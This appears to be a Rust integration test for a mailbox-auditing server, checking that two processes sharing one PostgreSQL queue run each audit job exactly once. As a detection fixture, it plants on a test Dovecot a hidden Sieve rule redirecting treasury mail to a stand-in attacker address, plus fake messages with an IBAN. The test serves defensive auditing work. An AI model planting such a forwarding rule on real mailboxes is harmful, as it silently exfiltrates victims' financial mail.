//! Two `vigie serve` processes on one real PostgreSQL share the background job queue: every
//! mailbox check is run once, by one of them, and both take part. The checks are real audits
//! of a real Dovecot (`vigie_testkit`), whose mailbox forwards mail outside.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

use common::{KEY, Server};
use vigie_server::jobs::seal_purpose;
use vigie_server::keys::ServerKey;
use vigie_store::{JobKind, JobStatus, NewJob, NewMailbox, Store};

#[test]
fn two_servers_on_one_postgres_run_each_job_once() {
    let pg = vigie_testkit::Postgres::start().unwrap_or_else(|e| panic!("{e}"));
    let dovecot = vigie_testkit::Dovecot::start().unwrap_or_else(|e| panic!("{e}"));
    dovecot
        .put_sieve_script(
            dovecot.user(),
            "regles",
            "if header :contains \"from\" \"tresorerie\" {\r\n  \
             redirect \"pirate@exfiltration.example.net\";\r\n}\r\n",
            true,
        )
        .unwrap_or_else(|e| panic!("{e}"));
    for i in 0..20 {
        let message = format!(
            "From: tresorerie@dgfip.example.fr\r\nTo: {}\r\nSubject: Avis {i}\r\n\
             Message-ID: <avis-{i}@dgfip.example.fr>\r\n\r\nIBAN FR76 3000 6000 0112 3456 7890 189\r\n",
            dovecot.user()
        );
        dovecot
            .append("INBOX", message.as_bytes(), &[])
            .unwrap_or_else(|e| panic!("{e}"));
    }
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let config = dir.path().join("vigie.toml");
    // Two workers each; no periodic checks (the test enqueues the jobs itself).
    std::fs::write(&config, "workers = 2\nrecheck_hours = 0\n").unwrap_or_else(|e| panic!("{e}"));

    let runtime = tokio::runtime::Runtime::new().unwrap_or_else(|e| panic!("{e}"));
    // The schema first, so that the two servers do not race to migrate.
    let store = runtime
        .block_on(Store::open(pg.url()))
        .unwrap_or_else(|e| panic!("{e}"));
    let first = Server::start(&dir.path().join("un"), pg.url(), &config, &[]);
    let second = Server::start(&dir.path().join("deux"), pg.url(), &config, &[]);

    // Twelve organisations, each following the mailbox over implicit TLS and STARTTLS.
    let key = ServerKey::from_bytes(&KEY);
    let ca = std::fs::read_to_string(dovecot.ca_cert_path()).unwrap_or_else(|e| panic!("{e}"));
    let accounts = [
        format!(
            "imaps://{}@{}:{}",
            dovecot.user().replace('@', "%40"),
            dovecot.host(),
            dovecot.imaps_port()
        ),
        format!(
            "imap://{}@{}:{}",
            dovecot.user().replace('@', "%40"),
            dovecot.host(),
            dovecot.imap_port()
        ),
    ];
    let mut jobs = Vec::new();
    runtime.block_on(async {
        for n in 0..12 {
            let org = store
                .create_organisation(&format!("Commune {n}"))
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            for account in &accounts {
                let id = format!("boite-{n}-{}", account.split(':').next().unwrap_or(""));
                let sealed = key.seal(&seal_purpose(&id), dovecot.password().as_bytes());
                store
                    .create_mailbox(&NewMailbox {
                        id: &id,
                        org_id: &org.id,
                        label: "Secrétariat",
                        account_url: account,
                        secret_sealed: &sealed,
                        sieve_port: dovecot.sieve_port(),
                        insecure_plaintext: false,
                        ca_pem: Some(&ca),
                        retention_years: 2,
                        created_by: "test",
                    })
                    .await
                    .unwrap_or_else(|e| panic!("{e}"));
                let (job, created) = store
                    .enqueue_job(&NewJob {
                        org_id: &org.id,
                        kind: JobKind::MailboxAudit,
                        subject_id: &id,
                        requested_by: "test",
                    })
                    .await
                    .unwrap_or_else(|e| panic!("{e}"));
                assert!(created);
                jobs.push((org.id.clone(), job.id, id));
            }
        }
    });

    let deadline = Instant::now() + Duration::from_secs(240);
    let finished = loop {
        let statuses = runtime.block_on(async {
            let mut statuses = Vec::new();
            for (org, job, _) in &jobs {
                statuses.push(store.job(org, job).await.unwrap_or_else(|e| panic!("{e}")));
            }
            statuses
        });
        if statuses.iter().all(|j| !j.status.is_pending()) {
            break statuses;
        }
        assert!(
            Instant::now() < deadline,
            "jobs still pending after 240 s: {:?}\n--- premier ---\n{}\n--- second ---\n{}",
            statuses
                .iter()
                .map(|j| (j.status, j.stage.clone()))
                .collect::<Vec<_>>(),
            first.output(),
            second.output()
        );
        std::thread::sleep(Duration::from_millis(200));
    };

    let mut per_process: BTreeMap<String, usize> = BTreeMap::new();
    runtime.block_on(async {
        for ((org, job_id, mailbox), job) in jobs.iter().zip(&finished) {
            assert_eq!(
                job.status,
                JobStatus::Done,
                "{job_id}: {:?}\n{}\n{}",
                job.error,
                first.output(),
                second.output()
            );
            let runs = store
                .job_runs(job_id)
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(runs.len(), 1, "{job_id} was taken {} times", runs.len());
            assert_eq!(Some(&runs[0].worker), job.worker.as_ref());
            // "<host>-<pid>-<random>/<n>": the process is everything before the slash.
            let process = runs[0].worker.split('/').next().unwrap_or("").to_owned();
            *per_process.entry(process).or_default() += 1;
            let checks = store
                .latest_mailbox_checks(org)
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            let check = checks
                .iter()
                .find(|c| &c.mailbox_id == mailbox)
                .unwrap_or_else(|| panic!("no check for {mailbox}"));
            assert!(check.audit_json.contains("sieve.redirect"), "{mailbox}");
            assert!(check.complete, "{mailbox}");
            assert_eq!(check.messages, 20, "{mailbox}");
        }
    });
    let processes: BTreeSet<_> = per_process.keys().collect();
    assert_eq!(
        processes.len(),
        2,
        "both servers take jobs: {per_process:?}\n{}\n{}",
        first.output(),
        second.output()
    );
    assert_eq!(per_process.values().sum::<usize>(), 24);
    drop(first);
    drop(second);
}
